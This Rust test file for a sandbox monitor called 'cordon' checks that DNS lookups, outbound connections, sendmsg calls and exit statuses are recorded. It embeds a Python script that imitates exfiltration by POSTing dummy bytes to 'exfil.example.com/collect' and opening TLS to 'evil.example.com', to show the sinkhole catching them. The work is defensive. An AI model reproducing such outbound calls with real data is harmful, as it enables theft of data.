//! What the command tried to reach: harmless scripts look a name up and
//! POST to it, or open TLS to it, inside the sandbox's private network.
//! cordon's resolver records each name; with `--dns-sinkhole` its
//! listeners record the request and the TLS server name. Nothing leaves
//! the sandbox's network namespace. Also `sendmsg` with an address, and
//! the exit status of each process.

#[path = "support/sandbox.rs"]
mod sandbox;

use std::fs;
use std::path::Path;

use sandbox::{Outcome, PYTHON, Sandbox, Scratch};
use serde_json::Value;

/// Looks the name up, then POSTs 321 bytes to it and opens TLS to
/// another; prints what happened to each.
const SCRIPT: &str = r#"
import http.client, socket, ssl
try:
    infos = socket.getaddrinfo("exfil.example.com", 80, socket.AF_INET)
    print("resolved:", infos[0][4][0])
except socket.gaierror as e:
    print("resolve: failed", e.errno)
try:
    c = http.client.HTTPConnection("exfil.example.com", 80, timeout=5)
    c.request("POST", "/collect?id=7", body=b"k" * 321,
              headers={"Content-Type": "text/plain"})
    c.getresponse()
    print("post: answered")
except Exception as e:
    print("post: failed", type(e).__name__)
try:
    raw = socket.create_connection(("evil.example.com", 443), timeout=5)
    ssl.create_default_context().wrap_socket(
        raw, server_hostname="evil.example.com")
    print("tls: done")
except Exception as e:
    print("tls: failed", type(e).__name__)
"#;

/// A run of a script: the outcome, the report and the event lines.
struct Monitored {
    outcome: Outcome,
    report: Value,
    lines: Vec<Value>,
}

fn run(scratch: &Scratch, options: &[&str], command: &[&str]) -> Monitored {
    let report = scratch.root.join(sandbox::unique("report"));
    let events = scratch.root.join(sandbox::unique("events"));
    let report_arg = report.display().to_string();
    let events_arg = events.display().to_string();
    let mut all = vec!["--report", &report_arg, "--events", &events_arg];
    all.extend(options);
    let outcome = Sandbox::new(scratch).options(&all).run(command);
    let report = sandbox::read_json(&report, &outcome);
    let lines = fs::read_to_string(&events)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).expect("an event line is JSON"))
        .collect();
    Monitored { outcome, report, lines }
}

fn run_script(scratch: &Scratch, options: &[&str]) -> Monitored {
    scratch.write("reach.py", SCRIPT);
    let run = run(scratch, options, &[PYTHON, "reach.py"]);
    assert_eq!(run.outcome.code, Some(0), "{}", run.outcome);
    run
}

/// The entries of `list` whose `field` is `value`.
fn all<'a>(list: &'a Value, field: &str, value: &str) -> Vec<&'a Value> {
    let entries = list.as_array().map(Vec::as_slice).unwrap_or_default();
    entries.iter().filter(|e| e[field] == value).collect()
}

fn skip_without_python() -> bool {
    if Path::new(PYTHON).exists() {
        return false;
    }
    sandbox::skip("run dns", "no /usr/bin/python3");
    true
}

#[test]
fn lookups_are_recorded_and_answered_nxdomain() {
    if skip_without_python() {
        return;
    }
    let scratch = Scratch::new();
    let run = run_script(&scratch, &[]);
    let out = &run.outcome;
    // EAI_NONAME: the resolver said the name does not exist.
    assert!(out.stdout.contains("resolve: failed -2"), "{out}");
    assert!(out.stdout.contains("post: failed gaierror"), "{out}");

    let dns = &run.report["events"]["dns"];
    let queries = all(dns, "name", "exfil.example.com");
    let a = queries.iter().find(|q| q["qtype"] == "A").expect("an A query");
    assert_eq!(a["answer"], "nxdomain", "{dns}");
    assert!(a["count"].as_u64() >= Some(1), "{a}");
    assert!(run.report["events"]["captures"].as_array().unwrap().is_empty());

    let lines: Vec<&Value> = run
        .lines
        .iter()
        .filter(|l| l["type"] == "dns" && l["name"] == "exfil.example.com")
        .collect();
    assert!(!lines.is_empty(), "no dns line");
    assert!(lines.iter().all(|l| l["answer"] == "nxdomain"), "{lines:?}");
    assert!(
        lines.iter().any(|l| l["qtype"] == "A" && l["transport"] == "udp")
    );
    assert!(out.stderr.contains("dns exfil.example.com A -> nxdomain"));
}

#[test]
fn the_sinkhole_records_the_post_and_the_server_name() {
    if skip_without_python() {
        return;
    }
    let scratch = Scratch::new();
    let run = run_script(&scratch, &["--dns-sinkhole"]);
    let out = &run.outcome;
    assert!(out.stdout.contains("resolved: 127.77."), "{out}");
    // The sinkhole closes without answering.
    assert!(out.stdout.contains("post: failed"), "{out}");
    assert!(out.stdout.contains("tls: failed"), "{out}");

    let events = &run.report["events"];
    let a = all(&events["dns"], "name", "exfil.example.com");
    let a = a.iter().find(|q| q["qtype"] == "A").expect("an A query");
    assert!(a["answer"].as_str().unwrap().starts_with("127.77."), "{a}");

    let http = all(&events["captures"], "protocol", "http");
    let http = http.first().expect("an http capture");
    assert_eq!(http["method"], "POST", "{http}");
    assert_eq!(http["host"], "exfil.example.com", "{http}");
    assert_eq!(http["path"], "/collect?id=7", "{http}");
    assert_eq!(http["body_bytes"], 321, "{http}");
    assert_eq!(http["port"], 80, "{http}");
    assert_eq!(http["name"], "exfil.example.com", "{http}");
    assert!(http["prefix"].as_str().unwrap().starts_with("POST /collect"));

    let tls = all(&events["captures"], "protocol", "tls");
    let tls = tls.first().expect("a tls capture");
    assert_eq!(tls["sni"], "evil.example.com", "{tls}");
    assert_eq!(tls["port"], 443, "{tls}");

    let capture_lines: Vec<&Value> =
        run.lines.iter().filter(|l| l["type"] == "capture").collect();
    assert!(
        capture_lines.iter().any(|l| l["sni"] == "evil.example.com"),
        "{capture_lines:?}"
    );
    assert!(capture_lines.iter().any(|l| l["body_bytes"] == 321));
    assert!(
        out.stderr.contains("tried to reach evil.example.com:443"),
        "{out}"
    );
    assert!(
        out.stderr.contains("tried to reach exfil.example.com:80"),
        "{out}"
    );
    // The connects to the sinkhole's ports were let through.
    let connects = all(&events["network"], "syscall", "connect");
    let to_443 = connects.iter().find(|c| c["port"] == 443).expect("443");
    assert_eq!(to_443["outcome"], "attempted", "{to_443}");
}

#[test]
fn the_sinkhole_needs_the_private_network() {
    let scratch = Scratch::new();
    let outcome = Sandbox::new(&scratch)
        .options(&["--dns-sinkhole", "--net", "host"])
        .run(&["true"]);
    assert_eq!(outcome.code, Some(125), "{outcome}");
    assert!(outcome.stderr.contains("--dns-sinkhole"), "{outcome}");
}

#[test]
fn sendmsg_with_an_address_is_recorded() {
    if skip_without_python() {
        return;
    }
    let scratch = Scratch::new();
    let script = "import socket\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        s.sendmsg([b'hello'], [], 0, ('127.0.0.1', 9999))\n\
        s.sendto(b'again', ('127.0.0.1', 9998))\n";
    scratch.write("send.py", script);
    let run = run(&scratch, &[], &[PYTHON, "send.py"]);
    assert_eq!(run.outcome.code, Some(0), "{}", run.outcome);
    let network = &run.report["events"]["network"];
    let sent = all(network, "syscall", "sendmsg");
    let sent = sent.first().expect("a sendmsg");
    assert_eq!(sent["address"], "127.0.0.1", "{sent}");
    assert_eq!(sent["port"], 9999, "{sent}");
    assert_eq!(sent["socket"], "udp", "{sent}");
    assert_eq!(sent["family"], "inet", "{sent}");
    assert!(
        run.lines
            .iter()
            .any(|l| l["syscall"] == "sendmsg" && l["port"] == 9999),
        "no sendmsg line"
    );
}

#[test]
fn processes_carry_their_exit_status() {
    let scratch = Scratch::new();
    let script = "sh -c 'exit 5'; kill -9 $$";
    let run = run(&scratch, &[], &["sh", "-c", script]);
    assert_eq!(run.outcome.code, Some(137), "{}", run.outcome);
    let processes = run.report["events"]["processes"].as_array().unwrap();
    let inner = processes
        .iter()
        .find(|p| p["argv"] == serde_json::json!(["sh", "-c", "exit 5"]))
        .expect("the inner shell");
    assert_eq!(inner["exit_code"], 5, "{inner}");
    let outer = processes
        .iter()
        .find(|p| p["argv"][2] == script)
        .expect("the command");
    assert_eq!(outer["signal"], 9, "{outer}");
    assert_eq!(outer["exit_code"], Value::Null, "{outer}");
    let exits = run.lines.iter().filter(|l| l["type"] == "exit");
    assert!(exits.clone().any(|e| e["code"] == 5), "{:?}", run.lines);
    assert!(run.outcome.stderr.contains("(exit 5)"), "{}", run.outcome);
    assert!(run.outcome.stderr.contains("(killed by signal 9)"));
}
